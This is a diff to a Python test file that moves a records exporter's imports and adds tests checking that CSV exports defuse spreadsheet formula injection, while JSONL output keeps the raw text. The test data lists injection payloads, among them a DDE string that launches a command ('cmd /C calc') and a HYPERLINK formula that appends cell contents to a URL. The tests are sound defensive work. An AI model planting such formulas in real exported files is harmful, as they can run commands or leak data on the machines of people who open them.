@@ -7,17 +7,18 @@ import io
 import json
 from collections.abc import AsyncIterable, Sequence
 from datetime import date
-from typing import Any
+from pathlib import Path
+from typing import Any, get_type_hints
 
 import pytest
 
 from llama_compat.distribution import RecordsSettings
-from routing.operations.records.bodies import Body
-from routing.operations.records.export import FIELDS, export, export_bodies
-from routing.operations.records.record import MIGRATIONS, Record
-from routing.operations.records.recorder import DAY_SECONDS, Recorder
-from routing.operations.records.reports import PAGE, Key, Since, Use, parse_since, usage
-from routing.operations.store.storage import Storage, open_storage
+from routing.observability.records.bodies import Body
+from routing.observability.records.export import FIELDS, export, export_bodies
+from routing.observability.records.record import MIGRATIONS, Record
+from routing.observability.records.recorder import DAY_SECONDS, Recorder
+from routing.observability.records.reports import PAGE, Key, Since, Use, parse_since, usage
+from routing.storage.storage import Storage, open_storage
 from tests.unit.routing.records.records import NOON, record
 
 TODAY = 20_000
@@ -161,6 +162,46 @@ async def test_a_table(address: str) -> None:
     assert [row["message"] for row in rows] == ['says "no", twice', ""]
     assert (rows[0]["cost_usd"], rows[1]["cost_usd"]) == ("1e-06", "")
     assert tuple(rows[0]) == FIELDS
+
+
+TEXTS = [name for name, kind in get_type_hints(Record).items() if kind is str]
+
+FORMULAS = [
+    '=HYPERLINK("http://example.com?"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    " =1",
+    "\u00a0=1",
+    "\ufeff=1",
+    "＝1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+async def test_no_text_of_a_table_is_a_formula(tmp_path: Path, text: str) -> None:
+    # Ids and models are clients' words, messages and reasons vendors', names the template's.
+    given = record(**dict.fromkeys(TEXTS, text))
+    storage = await filled(f"sqlite:{tmp_path / 'r.sqlite'}", [given])
+    table = await text_of(export(storage, 0, "csv"))
+    lines = await text_of(export(storage, 0, "jsonl"))
+    await storage.stop()
+    [row] = csv.DictReader(io.StringIO(table, newline=""))
+    assert {row[name] for name in TEXTS} == {f"'{text}"}
+    # Programs get what was said.
+    assert {json.loads(lines)[name] for name in TEXTS} == {text}
+
+
+async def test_other_texts_of_a_table_are_as_they_were_said(tmp_path: Path) -> None:
+    said = ["a\r=1", "a\n=1", "req_1=2", "claude-opus", "a@b", "", "'quoted", "1-2", " spaced"]
+    given = [record(model=each) for each in said]
+    storage = await filled(f"sqlite:{tmp_path / 'r.sqlite'}", given)
+    table = await text_of(export(storage, 0, "csv"))
+    await storage.stop()
+    assert [row["model"] for row in csv.DictReader(io.StringIO(table, newline=""))] == said
 
 
 async def test_more_than_a_page(address: str) -> None:
